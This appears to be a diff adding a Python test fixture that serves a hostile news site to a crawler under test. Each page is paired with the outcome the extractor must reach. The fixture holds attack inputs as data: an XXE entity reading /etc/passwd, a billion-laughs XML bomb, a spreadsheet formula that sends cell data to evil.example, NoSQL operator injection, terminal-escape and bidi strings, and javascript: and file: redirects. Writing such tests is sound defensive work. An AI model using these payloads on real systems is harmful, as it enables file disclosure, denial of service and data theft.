@@ -1,0 +1,144 @@
+"""An outlet that attacks who reads it, and one that it attacks; addresses by how they must end."""
+
+import json
+from itertools import pairwise
+
+from tests.extraction.pages import PARAGRAPHS, document, paragraphs
+from tests.hostile.server import HTML, Act, Hostile, moved, page
+
+DAY = "/2026/11/20"
+XML = "application/xml"
+ESCAPES = (
+    "\x1b]0;pwned\x07 \x1b[31mافتتاح\x1b[0m السوق \u202eالقديم\u202c [bold red]بعد ترميم[/bold red]"
+)
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"افتتاح السوق القديم بعد ترميم")'
+BOMB = (
+    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
+    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghi"))
+    + "]>"
+)
+OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+
+
+def body(number: int) -> str:
+    """Write a text of its own for each article."""
+    return paragraphs([f"{text} ({number}: {'حديد ' * number})" for text in PARAGRAPHS])
+
+
+def article(number: int, title: str, *, head: str = "") -> Act:
+    """Answer with an article."""
+    shown = title.replace("&", "&amp;").replace("<", "&lt;")
+    return page(document(f"<h1>{shown}</h1>{body(number)}", head=head, title=shown).encode())
+
+
+def structured(value: object) -> str:
+    """Write JSON-LD."""
+    return f'<script type="application/ld+json">{json.dumps(value)}</script>'
+
+
+def sitemap(*urls: str, first: str = "") -> Act:
+    """Answer with a list of addresses."""
+    rows = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
+    return page(f"{first}<urlset>{rows}</urlset>".encode(), XML)
+
+
+def index(*urls: str) -> Act:
+    """Answer with a list of sitemaps."""
+    rows = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in urls)
+    return page(f"<sitemapindex>{rows}</sitemapindex>".encode(), XML)
+
+
+def victim(site: Hostile) -> str:
+    """Publish one article; return its address."""
+    site.acts = {f"{DAY}/own-1001": article(0, "متحف المدينة يستعيد تمثالا نادرا بعد غياب طويل")}
+    return f"{site.home}{DAY}/own-1001"
+
+
+def attack(site: Hostile, target: str) -> dict[str, str]:
+    """Publish the attacks; return the outcome each article's address must have, by its name."""
+    front = _front(site)
+    stored = _stored(site, target)
+    others: dict[str, tuple[Act, str]] = {
+        "consent-2001": (
+            page("<title>قبل المتابعة</title><form><p>نستخدم ملفات".encode()),
+            "failed:blocked",
+        ),
+        "lost-2002": (
+            page(document("<h1>الصفحة غير موجودة</h1><p>عذرا.", title="خطأ 404").encode()),
+            "rejected:not-an-article",
+        ),
+        "home-2003": (front, "rejected:not-an-article"),
+        "home-2004": (front, "rejected:not-an-article"),
+        "away-2005": (moved(target), "failed:offsite-redirect"),
+        "script-2006": (moved("javascript:alert(1)"), "failed:bad-redirect"),
+        "file-2007": (moved("file:///etc/passwd"), "failed:http-302"),
+        "binary-2008": (page(bytes(range(256)) * 99), "rejected:not-an-article"),
+    }
+    acts = stored | {name: act for name, (act, _) in others.items()}
+    site.acts = {f"{DAY}/{name}": act for name, act in acts.items()}
+    named = [f"{site.home}{DAY}/{name}" for name in acts]
+    site.acts |= _sources(site, named) | {"/": front}
+    return dict.fromkeys(stored, "stored") | {name: end for name, (_, end) in others.items()}
+
+
+def _stored(site: Hostile, target: str) -> dict[str, Act]:
+    theft = (
+        f'<link rel="canonical" href="{target}"><meta property="og:url" content="{target}">'
+        + structured({"@type": "NewsArticle", "@id": target, "url": target})
+    )
+    operators = structured(
+        {
+            "@type": "NewsArticle",
+            "$where": "sleep(1000)",
+            "headline": {"$gt": ""},
+            "author": {"$ne": None, "name": {"$regex": ".*"}},
+            "articleSection": {"$set": {"publisher": "x"}},
+            "keywords": ["$set", {"a.b": 1}],
+        }
+    )
+    cycle = {"@id": "#a", "@type": "NewsArticle", "author": {"@id": "#b"}}
+    chain = [
+        cycle,
+        {"@id": "#b", "@type": "Person", "author": {"@id": "#a"}, "name": {"@id": "#b"}},
+    ]
+    deep = "[" * 50_000
+    dated = {"@type": "NewsArticle", "datePublished": "9999-12-31T23:59:59-14:00"}
+    return {
+        "theft-1001": article(1, "سوق الخضار ينتقل إلى مبنى جديد", head=theft),
+        "operators-1002": article(2, "$where: افتتاح مدرسة جديدة في الريف", head=operators),
+        "future-1003": article(
+            3, "مهرجان الربيع يبدأ غدا في الساحة الكبرى", head=structured(dated)
+        ),
+        "escapes-1004": article(4, ESCAPES),
+        "formula-1005": article(5, FORMULA),
+        "cycles-1006": article(
+            6,
+            "ميناء الصيادين يستقبل أول سفينة بعد التوسعة",
+            head=structured({"@graph": chain * 9000})
+            + f'<script type="application/ld+json">{deep}</script>',
+        ),
+    }
+
+
+def _front(site: Hostile) -> Act:
+    home = site.home.removeprefix("http://")
+    places = (
+        *("javascript:alert(1)", "data:text/html,<h1>x", "file:///etc/passwd"),
+        *(f"http://user:geheim@{home}{DAY}/secret-3001", f"{DAY}/{'x' * 10_000}-3002"),
+        *(f"{DAY}/theft-1001?PHPSESSID={number:032x}" for number in range(9)),
+    )
+    rows = "".join(f'<li><a href="{place}">عنوان طويل لخبر من أخبار اليوم</a>' for place in places)
+    return page(document(f"<ul>{rows}</ul>", title="الرئيسية").encode(), HTML)
+
+
+def _sources(site: Hostile, named: list[str]) -> dict[str, Act]:
+    home = site.home
+    lines = (f"Sitemap: {home}/{name}.xml" for name in ("news", "loop-a", "bomb", "outside"))
+    return {
+        "/robots.txt": page("\n".join(lines).encode(), "text/plain"),
+        "/news.xml": sitemap(*named),
+        "/loop-a.xml": index(f"{home}/loop-b.xml", f"{home}/loop-a.xml"),
+        "/loop-b.xml": index(f"{home}/loop-a.xml", f"{home}/loop-b.xml"),
+        "/bomb.xml": sitemap(f"{home}{DAY}/&i;-4001", first=BOMB),
+        "/outside.xml": sitemap(f"{home}{DAY}/&e;-4002", first=OUTSIDE),
+    }
